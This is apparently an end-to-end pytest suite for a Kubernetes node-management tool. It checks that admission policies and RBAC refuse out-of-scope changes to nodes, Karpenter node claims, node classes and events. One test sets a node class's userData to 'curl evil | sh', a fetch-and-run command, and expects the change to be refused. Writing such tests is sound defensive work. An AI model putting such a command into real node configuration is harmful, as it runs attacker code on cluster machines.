"""The admission policies on nodes, claims, node classes and events, and RBAC, against a real API server.

A forbidden request is refused with the policy's message, although RBAC allows it.
"""

from collections.abc import Callable
from functools import partial

import pytest

from joiner.names import (
    BINDERS,
    CLAIM_LABELLERS,
    DRAINERS,
    EVENT_WRITERS,
    EVICTORS,
    NODE_REMOVERS,
    RECORDERS,
    STATUS_WRITERS,
    TAINTERS,
    VIEWERS,
)
from joiner_local.control_plane.kube_api import ApiError, KubeApi, Object
from tests.e2e.policy_members import (
    CLAIMS,
    DISRUPTED,
    EVENTS,
    FILLING,
    FORMER_EVENTS,
    LEAVING,
    MACHINES,
    MERGE,
    NODES,
    PODS,
    POOL,
    PolicedCluster,
    event,
    foreign_machine,
    former_event,
    fresh,
    refused,
    taint,
)

pytestmark = pytest.mark.e2e


def test_only_joiner_nodes_are_changed(cluster: PolicedCluster) -> None:
    remover, foreign = cluster.member(VIEWERS, TAINTERS, NODE_REMOVERS), cluster.node(labels={})
    taint(remover, cluster.node(), DISRUPTED)

    refused(f"node {foreign} is not Joiner's", lambda: taint(remover, foreign, DISRUPTED))
    refused(f"node {foreign} is not Joiner's", lambda: remover.call("DELETE", f"{NODES}/{foreign}"))
    refused(
        f"node {foreign} is not Joiner's",
        lambda: remover.call("PATCH", f"{NODES}/{foreign}", {"metadata": {"labels": POOL}}, content_type=MERGE),
    )


def test_a_node_is_deleted_only_with_the_disrupted_taint(cluster: PolicedCluster) -> None:
    remover = cluster.member(VIEWERS, NODE_REMOVERS)
    remover.call("DELETE", f"{NODES}/{cluster.node(DISRUPTED)}")

    refused("is deleted only when it is being disrupted", lambda: remover.call("DELETE", f"{NODES}/{cluster.node()}"))


def test_only_the_fields_of_a_node_that_joiner_needs_are_changed(cluster: PolicedCluster) -> None:
    binder = cluster.member(VIEWERS, BINDERS)
    registered = cluster.node(
        FILLING, labels={**POOL, "karpenter.sh/registered": "true"}, finalizers=["karpenter.sh/termination"]
    )
    tainted = cluster.node({"key": "team", "value": "a", "effect": "NoSchedule"})

    taint(binder, registered)  # opened
    refused("changes metadata and taints", lambda: taint(binder, registered, unschedulable=True))
    refused("removes only the taints", lambda: taint(binder, tainted))
    refused("adds only the taint", lambda: taint(binder, registered, {"key": "out", "effect": "NoExecute"}))
    refused(
        "stays in its pool",
        lambda: binder.call(
            "PATCH",
            f"{NODES}/{registered}",
            {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}},
            content_type=MERGE,
        ),
    )
    refused(
        "keeps its finalizers until it is being disrupted",
        lambda: binder.call("PATCH", f"{NODES}/{registered}", {"metadata": {"finalizers": None}}, content_type=MERGE),
    )


def test_a_registered_node_stays_registered_and_keeps_its_owners(cluster: PolicedCluster) -> None:
    """Without the label, a taint that evicts pods could be added; an owner that is gone has the node deleted."""
    labels = {**POOL, "karpenter.sh/registered": "true"}
    gone = {"apiVersion": "karpenter.sh/v1", "kind": "NodeClaim", "name": "gone", "uid": "1"}
    tainter, node = cluster.member(VIEWERS, TAINTERS), cluster.node(labels=labels)

    def patch(metadata: Object) -> Object:
        return tainter.call("PATCH", f"{NODES}/{node}", {"metadata": metadata}, content_type=MERGE)

    refused("stays registered", lambda: patch({"labels": {"karpenter.sh/registered": None}}))
    refused("keeps its owners", lambda: patch({"ownerReferences": [gone]}))
    taint(tainter, node, DISRUPTED)


def test_an_unlabelled_node_is_adopted_with_a_claim_unless_it_is_a_node_groups(cluster: PolicedCluster) -> None:
    binder = cluster.member(VIEWERS, BINDERS)
    owner = {
        "apiVersion": "karpenter.sh/v1",
        "kind": "NodeClaim",
        "name": "any",
        "uid": "1",
        "blockOwnerDeletion": True,
    }

    def join(node: str) -> Object:
        return binder.call(
            "PATCH", f"{NODES}/{node}", {"metadata": {"labels": POOL, "ownerReferences": [owner]}}, content_type=MERGE
        )

    join(cluster.node(labels={}))
    managed = cluster.node(labels={"eks.amazonaws.com/nodegroup": "system"})
    refused(f"node {managed} is not Joiner's", lambda: join(managed))


def test_a_node_claim_of_the_user_is_changed_without_a_label_of_a_pool(cluster: PolicedCluster) -> None:
    recorder, claim = cluster.member(VIEWERS, RECORDERS), cluster.claim(labels={})
    cluster.admin.create(CLAIMS, claim)
    path = f"{CLAIMS}/{claim['metadata']['name']}"

    recorder.call("PATCH", f"{path}/status", {"status": {"nodeName": "x"}}, content_type=MERGE)
    recorder.call("DELETE", path)


def test_only_claims_of_joiner_are_changed_and_in_some_fields_only(cluster: PolicedCluster) -> None:
    recorder, foreign, own = cluster.member(VIEWERS, RECORDERS), foreign_machine(), cluster.claim()
    cluster.admin.create(MACHINES, foreign)
    recorder.call("POST", CLAIMS, own)
    path, foreign_path = f"{CLAIMS}/{own['metadata']['name']}", f"{MACHINES}/{foreign['metadata']['name']}"

    recorder.call("PATCH", f"{path}/status", {"status": {"providerID": "aws:///us-east-1a/i-1"}}, content_type=MERGE)
    refused(
        "is not Joiner's",
        lambda: recorder.call("PATCH", f"{foreign_path}/status", {"status": {"nodeName": "x"}}, content_type=MERGE),
    )
    refused("is not Joiner's", lambda: recorder.call("DELETE", foreign_path))
    refused(
        "keeps its finalizers until it is deleted",
        lambda: recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE),
    )
    refused(
        "stays in its pool",
        lambda: recorder.call(
            "PATCH", path, {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}}, content_type=MERGE
        ),
    )
    refused(
        "keeps its instance",
        lambda: recorder.call(
            "PATCH", f"{path}/status", {"status": {"providerID": "aws:///us-east-1a/i-2"}}, content_type=MERGE
        ),
    )
    recorder.call("DELETE", path)
    refused(
        "must have the label joiner.dev/disrupted=true",
        lambda: recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE),
    )
    release(recorder, path)


def test_the_labeller_changes_digests_and_the_labels_of_the_capacity_type_only(cluster: PolicedCluster) -> None:
    labeller, node, own = cluster.member(VIEWERS, CLAIM_LABELLERS), f"{NODES}/{cluster.node()}", cluster.claim()
    cluster.admin.create(CLAIMS, own)
    claim = f"{CLAIMS}/{own['metadata']['name']}"
    capacity = {"karpenter.sh/capacity-type": "on-demand", "karpenter.k8s.aws/capacity-reservation-id": None}
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": "none", "uid": "0"}

    def patch(path: str, **metadata: object) -> Object:
        return labeller.call("PATCH", path, {"metadata": metadata}, content_type=MERGE)

    patch(node, labels=capacity)
    patch(claim, labels=capacity, annotations={"karpenter.sh/nodepool-hash": "1"})
    for path in (node, claim):
        refused("this identity changes only", partial(patch, path, labels={"team": "a"}))
        refused("this identity changes only", partial(patch, path, annotations={"team": "a"}))
        refused("this identity changes only", partial(patch, path, ownerReferences=[owner]))
    refused("this identity changes only", lambda: taint(labeller, node.rpartition("/")[2], DISRUPTED))


def release(recorder: KubeApi, claim: str) -> Object:
    return recorder.call("PATCH", claim, {"metadata": {"finalizers": None, "labels": LEAVING}}, content_type=MERGE)


def test_a_claim_keeps_its_finalizer_while_its_node_is_open(cluster: PolicedCluster) -> None:
    recorder, tainter = cluster.member(VIEWERS, RECORDERS), cluster.member(VIEWERS, TAINTERS)
    node, claim = cluster.node(), cluster.claim()
    path = f"{CLAIMS}/{claim['metadata']['name']}"
    recorder.call("POST", CLAIMS, claim)
    recorder.call("PATCH", f"{path}/status", {"status": {"providerID": node}}, content_type=MERGE)
    recorder.call("DELETE", path)

    refused(f"while its node {node} lacks the taint karpenter.sh/disrupted", lambda: release(recorder, path))
    taint(tainter, node, DISRUPTED)
    cluster.await_view(node)
    release(recorder, path)
    with pytest.raises(ApiError) as gone:
        cluster.admin.get(path)
    assert gone.value.status == 404


@pytest.mark.parametrize("labels", [POOL, {}], ids=["a node without this instance", "a node that is not Joiner's"])
def test_other_nodes_do_not_keep_a_claim(cluster: PolicedCluster, labels: dict[str, str]) -> None:
    recorder, node, claim = cluster.member(VIEWERS, RECORDERS), cluster.node(labels=labels), cluster.claim()
    path = f"{CLAIMS}/{claim['metadata']['name']}"
    recorder.call("POST", CLAIMS, claim)
    instance = node if not labels else fresh("instance")
    recorder.call("PATCH", f"{path}/status", {"status": {"providerID": instance}}, content_type=MERGE)

    recorder.call("DELETE", path)
    release(recorder, path)


def test_a_node_claim_is_created_with_its_finalizer(cluster: PolicedCluster) -> None:
    claim = cluster.claim()
    del claim["metadata"]["finalizers"]

    refused(
        "with the finalizer karpenter.sh/termination",
        lambda: cluster.member(VIEWERS, RECORDERS).call("POST", CLAIMS, claim),
    )


def test_of_a_node_class_only_the_finalizer_is_changed(cluster: PolicedCluster) -> None:
    recorder, path = cluster.member(VIEWERS, RECORDERS), "/apis/karpenter.k8s.aws/v1/ec2nodeclasses"
    terms = {name: [{"tags": {"a": "b"}}] for name in ("subnetSelectorTerms", "securityGroupSelectorTerms")}
    spec = {"amiSelectorTerms": [{"alias": "al2023@latest"}], **terms}
    name = fresh("class")
    made: Object = {
        "apiVersion": "karpenter.k8s.aws/v1",
        "kind": "EC2NodeClass",
        "metadata": {"name": name},
        "spec": spec,
    }
    one = f"{path}/{name}"
    cluster.admin.create(path, made)

    def patch(changes: Object) -> Object:
        return recorder.call("PATCH", one, changes, content_type=MERGE)

    held = patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination"]}})
    assert held["metadata"]["finalizers"] == ["karpenter.k8s.aws/termination"]
    refused("may not change", lambda: patch({"spec": {"userData": "curl evil | sh"}}))
    refused("may not change", lambda: patch({"metadata": {"labels": {"a": "b"}}}))
    refused("may change", lambda: patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination", "a.example/b"]}}))
    refused("keeps its finalizer until it is deleted", lambda: patch({"metadata": {"finalizers": None}}))

    cluster.admin.call("DELETE", one)
    patch({"metadata": {"finalizers": None}})
    with pytest.raises(ApiError, match="not found"):
        cluster.admin.get(one)


@pytest.mark.parametrize(("path", "made"), [(EVENTS, event), (FORMER_EVENTS, former_event)], ids=["core", "former"])
def test_events_have_joiners_reporting_controller(
    cluster: PolicedCluster, path: str, made: Callable[[str], Object]
) -> None:
    """Functions of an earlier state, which run during an update, write events of the group events.k8s.io."""
    writer = cluster.member(VIEWERS, EVENT_WRITERS)
    writer.call("POST", path, made("joiner.dev/joiner"))

    refused(
        "with the reporting controller joiner.dev/joiner",
        lambda: writer.call("POST", path, made("default-scheduler")),
    )


@pytest.mark.parametrize(
    ("groups", "method", "path"),
    [
        ((VIEWERS, RECORDERS), "POST", f"{PODS}/any/binding"),
        ((VIEWERS, RECORDERS), "PATCH", f"{NODES}/any"),
        ((VIEWERS, BINDERS), "POST", f"{PODS}/any/eviction"),
        ((VIEWERS, BINDERS), "DELETE", f"{NODES}/any"),
        ((VIEWERS, BINDERS), "POST", "/api/v1/namespaces/default/bindings"),
        ((VIEWERS, DRAINERS), "POST", f"{PODS}/any/binding"),
        ((VIEWERS, DRAINERS), "PATCH", f"{PODS}/any/status"),
        ((VIEWERS, DRAINERS), "POST", f"{PODS}/any/eviction"),
        ((VIEWERS, DRAINERS), "PATCH", f"{NODES}/any"),
        ((VIEWERS, DRAINERS), "DELETE", f"{NODES}/any"),
        ((VIEWERS, EVICTORS), "DELETE", f"{PODS}/any"),
        ((VIEWERS, TAINTERS), "PUT", f"{NODES}/any"),
        ((VIEWERS, TAINTERS), "DELETE", f"{NODES}/any"),
        ((VIEWERS, TAINTERS), "DELETE", f"{PODS}/any"),
        ((VIEWERS, TAINTERS), "POST", f"{PODS}/any/eviction"),
        ((VIEWERS, NODE_REMOVERS), "PATCH", f"{NODES}/any"),
        ((VIEWERS, STATUS_WRITERS), "POST", CLAIMS),
        ((VIEWERS, STATUS_WRITERS), "PATCH", f"{CLAIMS}/any"),
        ((VIEWERS, STATUS_WRITERS), "DELETE", f"{CLAIMS}/any"),
        ((VIEWERS, STATUS_WRITERS), "PATCH", f"{NODES}/any"),
        ((VIEWERS, EVENT_WRITERS), "PATCH", f"{FORMER_EVENTS}/any"),
        ((VIEWERS, EVENT_WRITERS), "PATCH", f"{EVENTS}/any"),
        ((VIEWERS,), "POST", EVENTS),
        ((VIEWERS,), "GET", "/api/v1/secrets"),
        (
            (VIEWERS, DRAINERS, TAINTERS, NODE_REMOVERS, BINDERS, RECORDERS),
            "DELETE",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/joiner-nodes",
        ),
        (
            (VIEWERS, DRAINERS, TAINTERS, NODE_REMOVERS, BINDERS, RECORDERS),
            "PATCH",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles/joiner:binder",
        ),
    ],
)
def test_rbac_refuses_what_a_group_does_not_need(
    cluster: PolicedCluster, groups: tuple[str, ...], method: str, path: str
) -> None:
    body: Object | None = {} if method in ("POST", "PATCH", "PUT") else None
    with pytest.raises(ApiError) as error:
        cluster.member(*groups).call(
            method, path, body, content_type=MERGE if method == "PATCH" else "application/json"
        )
    assert error.value.status == 403, error.value
    assert "ValidatingAdmissionPolicy" not in str(error.value)
